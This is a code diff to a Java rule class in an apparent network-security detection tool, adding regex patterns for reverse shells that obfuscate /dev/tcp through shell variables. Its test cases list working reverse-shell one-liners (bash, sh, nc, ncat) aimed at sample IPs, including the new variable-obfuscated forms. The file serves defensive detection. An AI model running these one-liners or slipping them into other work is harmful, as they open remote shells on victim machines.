@@ -3,6 +3,7 @@ package trafficguardian.rules.commands;
 import static trafficguardian.rules.commands.ShellText.LINE;
 import static trafficguardian.rules.commands.ShellText.PRIVILEGE;
 import static trafficguardian.rules.commands.ShellText.SHELL;
+import static trafficguardian.rules.commands.ShellText.VARIABLE;
 
 import java.util.List;
 import java.util.regex.Pattern;
@@ -12,8 +13,13 @@ import trafficguardian.rules.base.Rule;
 
 /** Shells that call home. */
 final class ReverseShellRules {
-  private static final String DEVICE =
-      "/dev/(?:tcp|udp)/[0-9A-Za-z_.:${}\\[\\]-]+/(?:[0-9]{1,5}\\b|\\$)";
+  /** Of a network device, perhaps as a variable. */
+  private static final String PROTOCOL =
+      "(?:tcp|udp|(?:\\\\?[\"'])?" + VARIABLE + "(?:\\\\?[\"'])?)";
+
+  private static final String PEER = "/[0-9A-Za-z_.:${}\\[\\]-]+/(?:[0-9]{1,5}\\b|\\$)";
+
+  private static final String DEVICE = "/dev/" + PROTOCOL + PEER;
 
   /** Standard streams tied to each other, raw or as JSON and HTML write it. */
   private static final String TIE =
@@ -48,6 +54,11 @@ final class ReverseShellRules {
       Pattern.compile(
           "(?s)net\\.(?:(?!child_process|spawn\\().)*\\b(?:conn(?:ection)?|client|ssh)[0-9]*\\.exec\\(");
 
+  /** Somebody logs in by hand, and can be reached as long as the shell stays open. */
+  private static final Pattern WAY_BACK =
+      Pattern.compile(
+          "ssh (?:[\\w.-]+@)?[a-z][\\w.-]* -R ?[0-9]+:(?:localhost|127\\.0\\.0\\.1):22");
+
   static final List<Rule> ALL =
       List.of(
           Rule.injection("reverse_shell", Severity.CRITICAL)
@@ -61,13 +72,25 @@ final class ReverseShellRules {
               .finds(
                   "\\b(?:ba|z|da|k|a)?sh\\s+(?:-[a-z]+\\s+)*-[a-z]*i[a-z]*\\b"
                       + LINE
-                      + "/dev/(?:tcp|udp)/[0-9A-Za-z_.:${}\\[\\]-]+/(?:[0-9]{1,5}\\b|\\$)(?:\\s*"
+                      + "(?:/dev/"
+                      + PROTOCOL
+                      + PEER
+                      + "(?:\\s*"
                       + TIE
-                      + ")?")
+                      + ")?|[>&;] ?"
+                      + VARIABLE
+                      + "(?:/(?:tcp|udp))?"
+                      + PEER
+                      + "\\s*"
+                      + TIE
+                      + ")")
               .finds(DEVICE + "[\\s\"'\\\\;&]*(?:amp;)?" + TIE)
               .finds(
-                  "\\bexec\\s+[0-9]+\\s*(?:<>|&lt;&gt;|\\\\u003c\\\\u003e)\\s*"
-                      + DEVICE
+                  "\\bexec\\s+[0-9]+\\s*(?:<>|&lt;&gt;|\\\\u003c\\\\u003e)\\s*(?:/dev|/?"
+                      + VARIABLE
+                      + ")/"
+                      + PROTOCOL
+                      + PEER
                       + "[^\\x00]*(?:(?:[;|&\\n(]|\\\\n|\\bexec)\\s*(?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh\\s|\\bwhile\\s+read|\\bcat\\s*(?:<|&lt;|\\\\u003c)[^|\\n]*\\|)",
                   160)
               .finds(
@@ -148,6 +171,9 @@ final class ReverseShellRules {
                   "bash -i &gt;&amp; /dev/tcp/41.166.79.87/9001 0&gt;&amp;1",
                   "sh -i 5<> /dev/tcp/h.example/4444 0<&5 1>&5 2>&5",
                   "sh -i >& /dev/udp/10.9.8.7/53 0>&1",
+                  "t=tcp; sh -i >& /dev/$t/$h/4444 0>&1",
+                  "D=/dev/tcp; bash -i >& $D/41.166.79.87/9001 0>&1",
+                  "d=dev; exec 5<>/$d/tcp/41.166.79.87/9001; sh <&5 >&5",
                   "nc 93.233.207.122 4444 -e /bin/sh",
                   "nc -e /bin/bash 10.0.0.1 4242",
                   "ncat --ssl 48.253.71.162 443 -c bash",
@@ -178,6 +204,9 @@ final class ReverseShellRules {
               .ignores(
                   "const s = new net.Socket(); s.pipe(t).pipe(s); conn.exec('uptime', f)",
                   "/dev/tcp/host/port",
+                  "for d in tcp udp; do test -e /dev/$d && echo $d; done",
+                  "cat < /dev/$disk/0 >&2",
+                  "bash -i > $LOG/run/1.txt",
                   "timeout 1 bash -c '</dev/tcp/localhost/5432' && echo up",
                   "exec 3<>/dev/tcp/www.example.com/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3",
                   "connect(s, &a, sizeof a); dup2(s, 0); execl(\"/usr/lib/in.fingerd\", \"in.fingerd\", 0);",
@@ -200,7 +229,9 @@ final class ReverseShellRules {
     if (LOGGED_IN.matcher(match).matches() || MANUAL.matcher(match).matches()) {
       return Check.Verdict.LOOKALIKE;
     }
-    return CALLS_NOBODY.matcher(match).matches() || LINKS.matcher(match).find()
+    return CALLS_NOBODY.matcher(match).matches()
+            || WAY_BACK.matcher(match).matches()
+            || LINKS.matcher(match).find()
         ? Check.Verdict.DOUBTFUL
         : Check.Verdict.REAL;
   }
